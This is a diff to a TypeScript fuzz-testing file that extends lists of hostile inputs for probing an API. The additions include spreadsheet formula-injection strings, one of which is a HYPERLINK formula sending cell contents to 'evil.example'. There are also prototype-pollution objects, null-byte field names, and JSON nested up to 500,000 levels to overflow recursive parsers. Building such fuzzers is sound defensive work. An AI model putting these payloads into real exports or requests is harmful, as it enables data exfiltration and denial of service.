@@ -101,6 +101,11 @@ const NASTY_STRINGS = [
   'owner',
   '__proto__',
   'constructor',
+  // Formula-like text that a spreadsheet would run if an export wrote it unescaped.
+  '=1+2',
+  '@SUM(1,2)',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '-2+3',
 ]
 const NASTY_NUMBERS = [
   0,
@@ -164,18 +169,30 @@ const nastyNumber = fc.oneof(
   { weight: 2, arbitrary: fc.integer() },
   { weight: 1, arbitrary: fc.constantFrom(...RAW_NUMBERS).map((raw): Marker => ({ $raw: raw })) },
 )
-const deepArray = fc
-  .integer({ min: 50, max: 5000 })
-  .map((depth): Marker => ({ $raw: '['.repeat(depth) + ']'.repeat(depth) }))
-const deepObject = fc
-  .integer({ min: 50, max: 5000 })
-  .map((depth): Marker => ({ $raw: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) }))
+/** Nesting past the API's limit of 32 levels, up to 500,000 (deep enough to overflow a recursive reader). */
+const depths = fc.oneof(
+  { weight: 8, arbitrary: fc.integer({ min: 30, max: 5000 }) },
+  { weight: 1, arbitrary: fc.constant(500_000) },
+)
+const deepArray = depths.map((depth): Marker => ({ $raw: '['.repeat(depth) + ']'.repeat(depth) }))
+const deepObject = depths.map((depth): Marker => ({ $raw: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) }))
 const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 5, arbitrary: nastyString },
   { weight: 4, arbitrary: nastyNumber },
   {
     weight: 1,
-    arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { '': '' }, { __proto__: { admin: true } }),
+    arbitrary: fc.constantFrom(
+      null,
+      true,
+      false,
+      [],
+      {},
+      [null],
+      { '': '' },
+      { __proto__: { admin: true } },
+      { 'a\u0000b': 'x' },
+      { colour: { nested: ['\u0000'] } },
+    ),
   },
   { weight: 1, arbitrary: fc.array(nastyString, { maxLength: 5 }) },
   { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
@@ -588,7 +605,10 @@ function requestArbitrary(op: Operation): fc.Arbitrary<Fuzzed> {
     {
       weight: 1,
       arbitrary: fc
-        .tuple(fc.constantFrom('extra', '__proto__', 'id', 'workspaceId', 'role', ''), nastyValue)
+        .tuple(
+          fc.constantFrom('extra', '__proto__', 'id', 'workspaceId', 'role', '', '\u0000', 'a\u0000b'),
+          nastyValue,
+        )
         .map(([name, value]): Mutation => ({ kind: 'extra', name, value })),
     },
   )
